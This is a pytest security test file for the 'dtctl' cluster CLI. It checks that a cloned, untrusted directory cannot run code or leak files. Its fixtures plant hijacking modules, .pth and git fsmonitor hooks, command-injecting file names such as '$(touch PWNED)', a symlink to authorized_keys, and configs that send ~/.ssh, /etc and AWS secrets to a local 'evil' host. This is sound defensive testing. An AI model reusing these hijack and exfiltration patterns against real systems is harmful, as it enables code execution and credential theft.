"""A cloned directory starts no program here and changes nothing outside of itself, for all commands in it."""

from __future__ import annotations

import os
import select
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import typer.main

from dtctl.cli.app import app
from dtctl.errors import ExitCode
from tests import of_rooms
from tests.desk import Desk, desk
from tests.hostile.bench import COLOURS, CONTROLS
from tests.waiting import PATIENCE_S, eventually

BENIGN = """\
name: demo
hosts: {trap: {transport: local}}
jobs: {worker: {hosts: trap}}
trainer: {code: code, command: [python, train.py], dialect: none}
ports: auto
grace: 1s
"""
HOSTILE = """\
name: demo
ssh: {known_hosts: known_hosts, identity_file: id_of_the_repo, connect_timeout: 2s}
hosts:
  trap:
    transport: local
    address: 127.0.0.1
    HOST
    env: {PYTHONPATH: "src/repo:repo:PROJECT", PATH: "PROJECT/bin", LD_LIBRARY_PATH: PROJECT, PYTHONHOME: PROJECT}
  far: {ssh: {target: 127.0.0.1, port: 9}}
spares: [far]
jobs: {worker: {hosts: trap}}
trainer:
  code: code
  command: [COMMAND, train.py]
  dialect: none
  setup: "RAN/setup"
  TRAINER
data: {from: payload}
dirs: {data: ~/.ssh, output: ~/letters}
hooks:
  words: {run: [sh, -c, "RAN/hook"], on: [succeeded, failed, stopped]}
  script: {run: [./notify.sh], on: [succeeded, failed, stopped]}
ports: auto
grace: 1s
"""
WAYS_TO_A_PYTHON = {
    "of the host": ("python: ~/project/python", "python", ""),
    "of the trainer": ("", "python", "python: ~/project/python"),
    "of a venv": ("", "python", "venv: ~/project"),
    "as the command": ("", "PROJECT/python", ""),
    "by the PATH": ("", "python3", "python: python3"),
    "by its variables": ("", "python", ""),
}
"""Replacements for HOST, COMMAND and TRAINER."""

PROGRAMS = (
    *("python", "bin/python", "bin/python3", "bin/nvidia-smi", "bin/ssh", "bin/git", "bin/sshd", "bin/tensorboard"),
    *("notify.sh", "dtctl", ".git/hooks/post-index-change", ".git/hooks/fsmonitor"),
)
MODULES = ("sitecustomize", "usercustomize", "json", "importlib", "yaml", "typing", "site", "dtctl", "nvidia/__init__")

SAVED = Path(__file__).parents[1] / "agent/data/checkpoints/tf1_plain"
"""Checkpoints that come with the directory."""

SECRET = "theSecretOfTheUser0123456789"

COMMANDS = (
    *("validate", "plan", "plan worker:0", "up --dry-run", "check", "check --deep", "check --local", "check -o json"),
    *("up", "up -q --replace", "up -f", "up -o json", "push", "trust --yes", "explain hang", "schema"),
    *("status", "status -o json", "logs", "logs -n all", "events", "runs", "wait"),
    *of_rooms.rows("TYPED"),
    *(
        "compare demo-1 demo-2",
        "code demo-1",
        "data",
        "data push",
        "data push --overwrite",
        "data drop -y",
        "checkpoints push saved",
    ),
    *("checkpoints push saved --into ~/letters", "drain far", "undrain far", "scale worker=1"),
    *("wait -o json", "logs -f", "report -O -", "checkpoints", "checkpoints verify --all", "tensorboard", "dashboard"),
    *("top", "exec @trap -- true", "ssh far true", "init elsewhere", "replace trap far -y", "restart worker:0"),
    *("report", "tensorboard --copy", "stop", "gc --dry-run", "gc -y", "down -y"),
)
"""Commands in the directory, in this order. Without `allow` and `up --local`, by which a user consents."""
ENDLESS = ("tensorboard", "dashboard")

SECRETS = {
    "site.crt": "Bag Attributes\n    friendlyName: x\n-----BEGIN PRIVATE KEY-----\n"
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7%s\n-----END PRIVATE KEY-----\n",
    "terraform.tfstate": '{"password": "%s"}',
    "prod.tfvars": 'password = "%s"\n',
    "secrets.yaml": "token: %s\n",
    "credentials.json": '{"private_key": "%s"}',
    ".cargo/credentials.toml": '[registry]\ntoken = "%s"\n',
    ".hf_token": "hf_%s",
    "kubeconfig": "apiVersion: v1\nkind: Config\nusers: [{user: {token: %s}}]\n",
    ".bash_history": "export AWS_SECRET_ACCESS_KEY=%s\n",
}
HOSTILE_NAMES = ("-rf", "$(touch PWNED)", "a;touch PWNED", "\x1b]0;pwned\x07.py", "x\u202eyp.exe", "line\nbreak.txt")


def benign(home: Desk) -> None:
    """The directory before the attack, with which its user has worked."""
    (home.project / "cluster.yaml").write_text(BENIGN)
    _place(home, "code/train.py").write_text("print('step 1')\n")
    home.allow()


def plant(home: Desk) -> None:
    """Adds what a later `git pull` brings."""
    for name in PROGRAMS:
        file = _place(home, name)
        file.write_text(f"#!/bin/sh\n{_ran(home, name)}\n")
        file.chmod(0o755)
    for module in MODULES:
        text = f"import os\nos.system({_ran(home, module)!r})\n"
        for below in ("", "repo/", "src/repo/", "code/", "lib/python3.11/site-packages/"):
            _place(home, f"{below}{module}.py").write_text(text)
    _place(home, "pyvenv.cfg").write_text("home = /usr/bin\n")
    _place(home, "lib/python3.11/site-packages/x.pth").write_text(f"import os; os.system({_ran(home, 'pth')!r})\n")
    _place(home, ".git/config").write_text(
        f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {home.project}/.git/hooks/fsmonitor\n"
        f"\tsshCommand = {home.project}/bin/ssh\n\tpager = {home.project}/bin/git\n"
    )
    _place(home, ".git/HEAD").write_text("ref: refs/heads/main\n")
    for folder in ("objects", "refs"):
        (home.project / ".git" / folder).mkdir(exist_ok=True)
    (home.project / "known_hosts").symlink_to(home.home / ".ssh/authorized_keys")
    for name in HOSTILE_NAMES:
        _place(home, f"code/{name}").write_text("x")
    for name, text in SECRETS.items():
        _place(home, f"code/{name}").write_text(text % SECRET)
    _place(home, "payload/authorized_keys").write_text("ssh-ed25519 of the repository\n")
    _place(home, "payload/rc").write_text(_ran(home, "payload"))
    shutil.copytree(SAVED, home.project / "saved")
    write_file(home, "of the host")


def write_file(home: Desk, way: str) -> None:
    host, command, trainer = WAYS_TO_A_PYTHON[way]
    text = HOSTILE.replace("HOST", host).replace("COMMAND", command).replace("TRAINER", trainer)
    text = text.replace("PROJECT", str(home.project)).replace("RAN/", f": > {home.home}/ran/")
    (home.project / "cluster.yaml").write_text(text)


def furnish(home: Desk) -> None:
    """Makes the user's files, which nothing else may change."""
    (home.home / "ran").mkdir()
    for name in (".ssh/authorized_keys", ".ssh/id_ed25519", ".ssh/config", ".bashrc", ".profile", "letters/one.txt"):
        (home.home / name).parent.mkdir(exist_ok=True, mode=0o700)
        (home.home / name).write_text("" if name == ".ssh/config" else f"{name} of the user\n")


OWN = (".dtctl", ".cache", ".local/state/dtctl", "dtctl", "project")
"""The directories of dtctl, and the directory itself."""


def snapshot(home: Path) -> dict[str, str]:
    """All of the user's files: contents, modes and links; a program of the directory would change them."""
    found = {}
    for folder, folders, files in os.walk(home):
        below = Path(folder).relative_to(home)
        folders[:] = [name for name in folders if str(below / name) not in OWN]
        for name in (*folders, *files):
            path = Path(folder, name)
            what = path.readlink() if path.is_symlink() else path.read_text() if path.is_file() else "a directory"
            found[str(below / name)] = f"{path.lstat().st_mode:o} {what}"
    return found


def _place(home: Desk, name: str) -> Path:
    file = home.project / name
    file.parent.mkdir(parents=True, exist_ok=True)
    return file


def _ran(home: Desk, name: str) -> str:
    return f": > {home.home}/ran/{name.replace('/', '_')}"  # without a program of the PATH


pytestmark = pytest.mark.xdist_group("a cloned directory")
"""One directory, in which all commands run."""

SAYS_YES = {"allow": "by it a user says yes", "up --local": "the command line says what is to run here"}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    with desk(tmp_path_factory.mktemp("cloned") / "home", elsewhere=lambda: False) as made:
        furnish(made)
        benign(made)
        made.dtctl("up", "-q")
        made.dtctl("wait")
        plant(made)
        yield made


def test_every_command_is_typed_in_the_directory() -> None:
    named = set(typer.main.get_command(app).commands)  # type: ignore[attr-defined]
    typed = {words.split()[0] for words in (*COMMANDS, *SAYS_YES)}
    assert typed == named


@pytest.mark.parametrize("way", WAYS_TO_A_PYTHON)
def test_the_hostile_file_is_valid(home: Desk, way: str) -> None:
    """A file that is refused would let every test of it pass."""
    write_file(home, way)
    done = home.run("validate")
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("words", COMMANDS)
def test_nothing_of_the_directory_runs_and_nothing_outside_of_it_changes(home: Desk, words: str) -> None:
    write_file(home, "of the host")
    before = snapshot(home.home)
    shown = typed(home, words)
    assert snapshot(home.home) == before
    assert "Traceback" not in shown or "/dtctl/cli/" not in shown  # TensorBoard may show one of its own
    assert not CONTROLS.search(COLOURS.sub("", shown))
    if words == "push":
        assert not [file for file in (home.home / ".dtctl").rglob("*") if holds_secret(file)]


SCRIPT = """
import contextlib, dtctl
from dtctl import errors
cluster = dtctl.load()
cluster.plan()
def run():
    return dtctl.attach(cluster)
calls = (
    cluster.check, lambda: cluster.check(deep=True), cluster.push, cluster.push_data, cluster.data,
    lambda: cluster.push_data(overwrite=True), lambda: cluster.data(verify=True),
    lambda: cluster.push_checkpoint("saved"), lambda: cluster.push_checkpoint("saved", into="~/letters"),
    lambda: dtctl.up(cluster), lambda: dtctl.up(cluster, replace=True, force=True),
    lambda: dtctl.replace(cluster, "trap"),
    lambda: dtctl.runs(cluster), lambda: run().status(), lambda: run().diagnose(), lambda: run().wait(1.0),
    lambda: run().metrics(), lambda: run().checkpoints(), lambda: list(run().logs()), lambda: run().restart(),
)
for call in calls:
    try:
        call()
    except (errors.DtctlError, TimeoutError) as error:
        print(type(error).__name__, str(error).splitlines()[0])
"""


def test_a_script_that_imports_dtctl_starts_and_writes_nothing_either(home: Desk) -> None:
    write_file(home, "of the host")
    before = snapshot(home.home)
    words = [sys.executable, "-I", "-c", SCRIPT]  # without -I Python imports from this directory
    done = subprocess.run(
        words, cwd=home.project, env=home.env, capture_output=True, text=True, check=False, timeout=PATIENCE_S
    )
    assert snapshot(home.home) == before
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("and you have not allowed it") >= 6, done.stdout
    assert not CONTROLS.search(done.stdout)


def test_data_and_checkpoints_are_written_to_this_machine_only_when_allowed(tmp_path: Path) -> None:
    with desk(tmp_path / "home", elsewhere=lambda: False) as made:
        furnish(made)
        benign(made)
        (made.project / "cluster.yaml").write_text(f"{BENIGN}data: {{from: payload}}\ndirs: {{data: ~/letters}}\n")
        _place(made, "payload/two.txt").write_text("x")
        shutil.copytree(SAVED, made.project / "saved")
        pushes = ("data push", "checkpoints push saved --into ~/letters")
        for words in pushes:
            refused = made.run(*words.split())
            assert refused.returncode == 5
            assert "dirs.data: ~/letters" in refused.stderr
            assert "dtctl allow " in refused.stderr
        assert [path.name for path in (made.home / "letters").iterdir()] == ["one.txt"]
        made.allow()
        for words in pushes:
            made.dtctl(*words.split())
        assert (made.home / "letters/two.txt").exists()
        assert (made.home / "letters/checkpoint").exists()


def typed(home: Desk, words: str) -> str:
    """The output of the command. An endless one is interrupted when it has shown something."""
    if words not in ENDLESS:
        done = home.run(*words.split())
        return done.stdout + done.stderr
    process = subprocess.Popen(
        [str(Path(sys.executable).with_name("dtctl")), *words.split()],  # `python -m` imports from this directory
        cwd=home.project,
        env={name: value for name, value in home.env.items() if name != "PYTHONWARNINGS"},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert process.stdout is not None
    first = process.stdout.readline()
    process.send_signal(signal.SIGINT)
    return first + process.communicate(timeout=PATIENCE_S)[0]


def holds_secret(file: Path) -> bool:
    return file.is_file() and not file.is_symlink() and SECRET.encode() in file.read_bytes()


@pytest.mark.parametrize("way", WAYS_TO_A_PYTHON)
def test_check_starts_no_python_that_the_file_has_chosen(home: Desk, way: str) -> None:
    write_file(home, way)
    before = snapshot(home.home)
    done = home.run("check", "--deep")
    assert snapshot(home.home) == before, done.stdout + done.stderr
    assert "trap checked in" in done.stdout
    if way != "by its variables":
        assert "you have not allowed it" in done.stdout
        assert "dtctl allow    shows what cluster.yaml would run here" in done.stdout


def test_a_refusal_names_the_programs_and_the_command_that_allows_them(home: Desk) -> None:
    write_file(home, "of the host")
    done = home.run("up")
    assert done.returncode == 5
    assert "python: ~/project/python" in done.stderr
    assert f": > {home.home}/ran/setup" in done.stderr
    assert f"dtctl allow {home.project}/cluster.yaml" in done.stderr


def test_a_hook_that_is_not_allowed_is_named_in_one_line_and_runs_when_it_is(tmp_path: Path) -> None:
    with desk(tmp_path / "home", elsewhere=lambda: False) as made:
        furnish(made)
        benign(made)
        file = made.project / "cluster.yaml"
        file.write_text(f"{BENIGN}hooks: {{script: {{run: [./notify.sh], on: [succeeded]}}}}\n")
        script = made.project / "notify.sh"
        script.write_text("#!/bin/sh\ntouch ~/ran/hook\n")
        script.chmod(0o755)
        made.dtctl("up", "-q")
        line = f"hook script will not run here, as you have not allowed it: dtctl allow {file}"
        for words in ("wait", "logs -f", "up -f"):
            done = made.run(*words.split())
            assert done.stderr.count(line) == 1
        assert not (made.home / "ran/hook").exists()
        assert "hook script: ./notify.sh" in made.run("allow").stderr
        made.dtctl("wait")
        eventually((made.home / "ran/hook").exists, what="the hook to run")
        (made.home / "ran/hook").unlink()
        script.write_text("#!/bin/sh\ntouch ~/ran/other\n")  # as a `git pull` may bring it
        assert "hook script will not run here" in made.run("wait").stderr
        assert not (made.home / "ran/other").exists()


LEAVES = """\
name: demo
hosts: {evil: {ssh: {target: 127.0.0.1, port: PORT, connect_timeout: 2s}, address: 127.0.0.1}}
jobs: {worker: {hosts: evil}}
dirs: {data: /data}
TRAINER
DATA
"""
TRAINER = "trainer: {code: code, command: [python, train.py], dialect: none}"
THEFTS = {
    "the home as data": (TRAINER, "data: {from: ~/}", "data push"),
    "the home as data, let through by the file": (TRAINER, "data: {from: ~/}\nsend_anywhere: true", "data push"),
    "the home by a link": (TRAINER, "data: {from: link}", "data push"),
    "keys as data": (TRAINER, "data: {from: ~/.ssh}", "data push"),
    "keys by a link": (TRAINER, "data: {from: link/.ssh}\nsend_anywhere: true", "data push"),
    "the parent of keys": (TRAINER, "data: {from: ~/.config}", "data push"),
    "documents as data": (TRAINER, "data: {from: ../letters}", "data push"),
    "documents as code": (TRAINER.replace("code: code", "code: ../letters"), "", "push"),
    "documents as code of a run": (
        TRAINER.replace("code: code", "code: ../letters").replace("[python, train.py]", "[cat, one.txt]"),
        "",
        "up -q",
    ),
    "the system": (TRAINER, "data: {from: /etc}", "data push"),
    "another project's values": (
        TRAINER.replace("{code", "{env_file: ../other.env, secrets: [KEY], code"),
        "",
        "up -q",
    ),
    "values of the environment": (TRAINER.replace("{code", "{secrets: [AWS_SECRET_ACCESS_KEY], code"), "", "up -q"),
    "values by a hook": (TRAINER, "hooks: {x: {post: 'https://127.0.0.1/${AWS_SECRET_ACCESS_KEY}'}}", "up -q"),
}
"""The sections `trainer` and `data` of a cloned file, and the command that its reader types."""


@contextmanager
def receiver() -> Iterator[tuple[int, Callable[[], bool]]]:
    """A port, and whether a connection to it waits to be accepted."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1], lambda: bool(select.select([server], [], [], 0)[0])


@contextmanager
def robbed(place: Path, trainer: str, data: str) -> Iterator[tuple[Desk, Callable[[], bool]]]:
    """A desk in a cloned directory whose file has these sections, and whether its host has been connected to."""
    with desk(place / "home", elsewhere=lambda: False) as made, receiver() as (port, is_reached):
        furnish(made)
        made.env["AWS_SECRET_ACCESS_KEY"] = SECRET
        _place(made, "code/train.py").write_text("print('step 1')\n")
        if "link" in data:
            (made.project / "link").symlink_to(made.home)
        (made.home / ".config").mkdir()
        (made.home / "other.env").write_text(f"KEY={SECRET}\n")
        text = LEAVES.replace("PORT", str(port)).replace("TRAINER", trainer).replace("DATA", data)
        (made.project / "cluster.yaml").write_text(text)
        yield made, is_reached


@pytest.mark.parametrize("theft", THEFTS)
def test_nothing_from_outside_of_the_directory_leaves_before_it_is_allowed(tmp_path: Path, theft: str) -> None:
    trainer, data, words = THEFTS[theft]
    with robbed(tmp_path, trainer, data) as (made, is_reached):
        done = made.run(*words.split())
        assert done.returncode in (ExitCode.CONFIG, ExitCode.PREFLIGHT), done.stderr
        assert "and you have not allowed it" in done.stderr or "add send_anywhere: true" in done.stderr
        assert SECRET not in done.stderr
        assert not is_reached()
        if done.returncode == ExitCode.PREFLIGHT:
            made.dtctl("allow")
            made.run(*words.split())
            assert is_reached(), "something else keeps it from being sent"


def test_a_check_sends_no_values_and_says_so_until_they_are_allowed(tmp_path: Path) -> None:
    trainer, data, _ = THEFTS["values of the environment"]
    with robbed(tmp_path, trainer, data) as (made, _):
        line = "checked without the values of secrets, as you have not allowed it to send them: dtctl allow"
        assert line in made.run("check").stderr
        made.dtctl("allow")
        assert line not in made.run("check").stderr
